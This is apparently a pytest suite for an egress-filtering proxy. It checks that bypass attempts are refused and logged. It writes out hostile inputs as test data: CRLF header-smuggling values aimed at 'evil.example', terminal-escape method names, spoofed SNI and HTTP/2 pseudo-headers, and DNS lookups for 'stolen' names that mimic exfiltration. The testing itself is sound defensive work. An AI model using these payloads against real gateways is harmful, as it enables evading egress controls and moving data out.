"""S10, S11: Named attempts to bypass the gate fail, by somebody who has read its source."""

from __future__ import annotations

import contextlib
import socket
import ssl
import struct

import h2.config
import h2.connection
import h2.events
import pytest

from .attempts import CLEAR, HOST, INSIDE, MARK, TUNNEL, Attempt, get
from .origin import LOCAL
from .proxy_process import Running, read_all


@pytest.fixture(autouse=True)
def _engine() -> None:
    """
    Replace the fixture of this name: these tests need no engine.
    """


@pytest.mark.promise("S10", "S11")
@pytest.mark.parametrize("attempt", CLEAR, ids=str)
def test_in_clear(proxy: Running, attempt: Attempt) -> None:
    """
    S10: An attempt without a tunnel, sent to the proxy's port, is refused.
    """
    with proxy.connect() as raw:
        _send(raw, _bytes_of(proxy, attempt))
        assert b"200" not in read_all(raw).partition(b"\r\n")[0]

    _refused(proxy, attempt)


@pytest.mark.promise("S10")
@pytest.mark.parametrize("attempt", TUNNEL, ids=str)
def test_in_a_tunnel(proxy: Running, attempt: Attempt) -> None:
    """
    S10: An attempt inside an accepted CONNECT is refused.
    """
    with proxy.tunnel() as raw:
        _send(raw, _bytes_of(proxy, attempt))
        assert MARK not in read_all(raw)

    _refused(proxy, attempt)


@pytest.mark.promise("S10", "S11")
@pytest.mark.parametrize("attempt", INSIDE, ids=str)
def test_inside_tls(proxy: Running, attempt: Attempt) -> None:
    """
    S10, S11: An attempt inside TLS inside a tunnel is refused.
    """
    with proxy.secure() as secure:
        with contextlib.suppress(ConnectionError, ssl.SSLError):
            secure.sendall(_bytes_of(proxy, attempt))
        assert not read_all(secure).startswith(b"HTTP/1.1 200")

    _refused(proxy, attempt)
    [request] = proxy.log
    assert (request.host, request.port) == ("localhost", proxy.origin.port)


@pytest.mark.promise("S10")
def test_another_host_on_the_same_connection(proxy: Running) -> None:
    """
    S10: The second request of a connection is judged separately.
    """
    first = b"GET /first HTTP/1.1\r\n" + HOST + b"\r\n"
    second = get(b"Host: evil.example\r\n")
    answer = proxy.ask((first + second).replace(b"{port}", str(proxy.origin.port).encode()))

    assert answer.startswith(b"HTTP/1.1 200")
    assert b"HTTP/1.1 403" in answer
    proxy.log.assert_blocked("name-mismatch", path=MARK.decode())
    assert proxy.origin.seen == [("GET", "/first")]


@pytest.mark.promise("S10")
@pytest.mark.parametrize(
    "second",
    [
        b"G\x1b]0;pwn\x07\xff\xc2\x9b /secret-mark HTTP/1.1\r\n" + HOST + b"\r\n",
        b"GET(x) /secret-mark HTTP/1.1\r\n" + HOST + b"\r\n",
    ],
)
def test_no_method_on_the_same_connection(proxy: Running, second: bytes) -> None:
    """
    S10: An invalid method is not forwarded, even if the first bytes of the connection were valid.
    """
    data = b"GET /first HTTP/1.1\r\n" + HOST + b"\r\n" + second
    answer = proxy.ask(data.replace(b"{port}", str(proxy.origin.port).encode()))

    assert answer.startswith(b"HTTP/1.1 200")
    assert len(proxy.log.blocked) == 1
    assert proxy.log.blocked[0].reason == "not-tls"
    assert proxy.origin.seen == [("GET", "/first")]
    for text in (proxy.log.blocked[0].method, proxy.log.blocked[0].explanation):
        assert text.isprintable()
        assert text.isascii()


@pytest.mark.promise("S10")
@pytest.mark.parametrize("sni", ["evil.example", "localhost.evil.example", LOCAL, None])
def test_another_name_in_the_handshake(proxy: Running, sni: str | None) -> None:
    """
    S10: With an SNI that is not the name of the tunnel, the first request is refused; without an
    SNI, it is allowed.
    """
    answer = proxy.ask(get(b"Host: localhost\r\nConnection: close\r\n"), sni)

    if sni is None or sni == LOCAL:  # Addresses are no SNI; Python sends none.
        assert answer.startswith(b"HTTP/1.1 200")
        proxy.origin.forget()
        return
    assert answer.startswith(b"HTTP/1.1 403")
    _refused(proxy, Attempt("sni", b"", "name-mismatch"))


@pytest.mark.promise("S10", "S11")
@pytest.mark.parametrize(
    ("headers", "reason"),
    [
        ([(":authority", "evil.example")], "name-mismatch"),
        ([(":authority", "localhost"), ("host", "evil.example")], "name-mismatch"),
        ([("host", "evil.example")], "name-mismatch"),
        ([(":authority", "localhost:22")], "name-mismatch"),
        ([(":authority", "localhost"), (":protocol", "websocket")], "not-tls"),
        ([(":method", "CONNECT"), (":authority", "evil.example:443")], "not-tls"),
        ([(":authority", "localhost"), ("upgrade", "websocket")], None),
        ([(":authority", "localhost"), ("sec-websocket-key", "AA==")], "websocket"),
        ([(":authority", "localhost"), ("transfer-encoding", "chunked")], None),
        ([(":authority", "localhost"), (":path", "https://evil.example/x")], "not-tls"),
        ([(":authority", "localhost"), (":path", "evil.example/x")], "not-tls"),
        ([(":authority", "localhost"), (":path", "*")], "not-tls"),
        ([(":authority", "localhost"), (":path", "/x HTTP/1.1")], "not-tls"),
        ([(":authority", "localhost"), (":path", "/x\r\nHost: evil.example")], "not-tls"),
        ([(":authority", "localhost"), (":path", "/\x7f")], "not-tls"),
        ([(":authority", "localhost"), (":method", "GET /x HTTP/1.1")], "not-tls"),
        ([(":authority", "localhost"), (":method", "G\x1b[2J")], "not-tls"),
        ([(":authority", "localhost"), (":method", "")], "not-tls"),
        ([(":authority", "localhost"), ("x", "a\r\nHost: evil.example")], "not-tls"),
        ([(":authority", "localhost"), ("x", "a\rHost: evil.example")], "not-tls"),
        ([(":authority", "localhost"), ("x", "a\0b")], "not-tls"),
        ([(":authority", "localhost"), ("x y", "a")], "not-tls"),
        ([(":authority", "localhost"), ("x: y", "a")], "not-tls"),
    ],
)
def test_over_http2(proxy: Running, headers: list[tuple[str, str]], reason: str | None) -> None:
    """
    S10, S11: Pseudo-headers that differ, extended CONNECT and connection headers are refused.
    """
    names = [name for name, _ in headers]
    method = "CONNECT" if ":protocol" in names else "GET"
    pseudo = [(":method", method), (":scheme", "https"), (":path", MARK.decode())]
    pseudo = [each for each in pseudo if each[0] not in names]
    if (":method", "CONNECT") in headers:  # It has no other pseudo-headers.
        pseudo = []
    config = h2.config.H2Configuration(
        client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False
    )
    client = h2.connection.H2Connection(config)
    client.initiate_connection()
    ordered = [*(each for each in headers if each[0].startswith(":"))]
    ordered = [*pseudo, *ordered, *(each for each in headers if not each[0].startswith(":"))]
    client.send_headers(1, ordered, end_stream=True)
    with proxy.secure(alpn="h2") as secure:
        secure.sendall(client.data_to_send())
        _until_ended(secure, client)

    if reason is None:
        assert len(proxy.log.blocked) == 1
        reason = str(proxy.log.blocked[0].reason)
        assert reason in ("not-tls", "websocket")
    _refused(proxy, Attempt("h2", b"", reason))
    [request] = proxy.log
    assert request.port == proxy.origin.port or reason == "name-mismatch"


@pytest.mark.promise("S12")
@pytest.mark.parametrize("kind", [1, 28, 16, 255, 65])
def test_names_cannot_carry_data_out(proxy: Running, kind: int) -> None:
    """
    S12: A look-up of any kind is refused, and logged with its name.
    """
    name = f"stolen-{kind}.evil.example"
    labels = b"".join(bytes([len(one)]) + one.encode() for one in name.split("."))
    query = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
        asker.settimeout(10)
        asker.sendto(query, (LOCAL, proxy.dns_port))
        answer = asker.recv(512)

    assert answer[3] & 0x0F == 5
    proxy.log.assert_blocked("direct-dns", host=name)


def _bytes_of(proxy: Running, attempt: Attempt) -> bytes:
    return attempt.bytes_for("localhost", proxy.origin.port)


def _send(raw: socket.socket, data: bytes) -> None:
    with contextlib.suppress(ConnectionError):
        raw.sendall(data)
        raw.shutdown(socket.SHUT_WR)


def _until_ended(secure: ssl.SSLSocket, client: h2.connection.H2Connection) -> None:
    with contextlib.suppress(ConnectionError, ssl.SSLError):
        while data := secure.recv(65536):
            for event in client.receive_data(data):
                if isinstance(
                    event,
                    (h2.events.StreamEnded, h2.events.StreamReset, h2.events.ConnectionTerminated),
                ):
                    return


def _refused(proxy: Running, attempt: Attempt) -> None:
    """
    Check that the attempt is in the log once, with its reason, and that nothing reached the
    server.
    """
    log = list(proxy.log)
    assert [(one.verdict, one.reason) for one in log] == [("blocked", attempt.reason)], log
    assert log[0].explanation
    assert proxy.origin.seen == []
